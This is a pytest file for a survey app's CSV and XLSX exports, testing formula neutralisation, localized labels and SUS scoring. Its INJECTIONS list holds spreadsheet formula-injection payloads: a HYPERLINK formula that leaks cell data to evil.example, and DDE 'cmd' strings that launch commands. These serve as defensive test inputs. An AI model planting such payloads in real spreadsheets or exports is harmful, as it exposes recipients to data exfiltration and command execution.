"""Responses to CSV and XLSX: one row a response, labels in a language, formulas neutralised."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from surveys.answers import clean_answers
from surveys.builder import starter_definition
from surveys.exports import export_bytes, neutralise, response_table, sus_score
from surveys.repository import create_questionnaire, response_rows, submit_response
from tests.test_public_form import skip_logic_definition

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_like_text_is_neutralised(text):
    assert neutralise(text) == "'" + text


def test_plain_text_and_numbers_stay_as_they_are():
    assert neutralise("Бързо и лесно") == "Бързо и лесно"
    assert neutralise("-3") == "-3" and neutralise("+2,5") == "+2,5"


def _rows(database, answers: list[dict]) -> tuple:
    definition = skip_logic_definition()
    with database.write() as session:
        info = create_questionnaire(session, "export", definition, status="open")
        for number, raw in enumerate(answers):
            submit_response(
                session,
                info,
                f"export-{number:04d}",
                clean_answers(definition, raw, raw.pop("__others", {})),
                language="bg",
                submitted_at=dt.datetime(2026, 3, 2, 9, number, tzinfo=dt.UTC),
            )
    with database.read() as session:
        return info.definition, response_rows(session, info.id)


def test_an_answer_beginning_with_hyperlink_reads_back_from_xlsx_as_text(database):
    definition, rows = _rows(
        database, [{"used_online": "yes", "difficulty": INJECTIONS[0], "seq": 5}]
    )
    workbook = load_workbook(io.BytesIO(export_bytes(definition, rows, "bg", "xlsx")))
    sheet = workbook.active
    cells = {c.value: c for c in sheet[2]}
    cell = cells[INJECTIONS[0]]
    assert cell.data_type == "s"  # a string, never a formula
    assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
    assert sheet.title == "Отговори"
    headers = [c.value for c in sheet[1]]
    assert headers[:4] == ["Отговор", "Изпратен (UTC)", "Език", "Източник"]
    assert "Какво ви затрудни?" in headers


def test_csv_has_one_row_a_response_with_labels_in_the_chosen_language(database):
    definition, rows = _rows(
        database,
        [
            {"used_online": "yes", "difficulty": "@SUM(1)", "seq": 6, "nps": 10},
            {
                "used_online": "no",
                "channel": ["post", "other"],
                "__others": {"channel": "=1+1"},
                "nps": 0,
            },
        ],
    )
    data = export_bytes(definition, rows, "en", "csv")
    assert data.startswith("\ufeff".encode())
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(table) == 3
    header = table[0]
    assert header[:4] == ["Response", "Submitted (UTC)", "Language", "Source"]
    first, second = (dict(zip(header, row, strict=True)) for row in table[1:])
    assert first["Did you use the online service?"] == "Yes"
    assert first["What made it difficult?"] == "'@SUM(1)"
    assert second["How did you apply instead?"] == "By post; Other"
    assert second["How did you apply instead? (other)"] == "'=1+1"
    assert first["Submitted (UTC)"] == "2026-03-02 09:00:00"
    names = list(
        csv.reader(
            io.StringIO(
                export_bytes(definition, rows, "bg", "csv", headers="names").decode("utf-8-sig")
            )
        )
    )
    assert names[0][:6] == [
        "response_id",
        "submitted_at",
        "language",
        "source",
        "used_online",
        "difficulty",
    ]
    assert names[1][4] == "Да"


def test_sus_blocks_export_their_items_and_score():
    definition = starter_definition({"en": "S"}, standard=True)
    rows = [{"id": 1, "sus": [5, 1] * 5, "seq_overall": 7}, {"id": 2, "sus": [3] * 9 + [None]}]
    table = response_table(definition, rows, "en")
    assert table.headers[4].startswith("1. I think that I would like to use")
    assert table.headers[14] == "SUS score"
    assert table.rows[0][14] == 100.0 and table.rows[1][14] is None
    assert sus_score([3] * 10) == 50.0
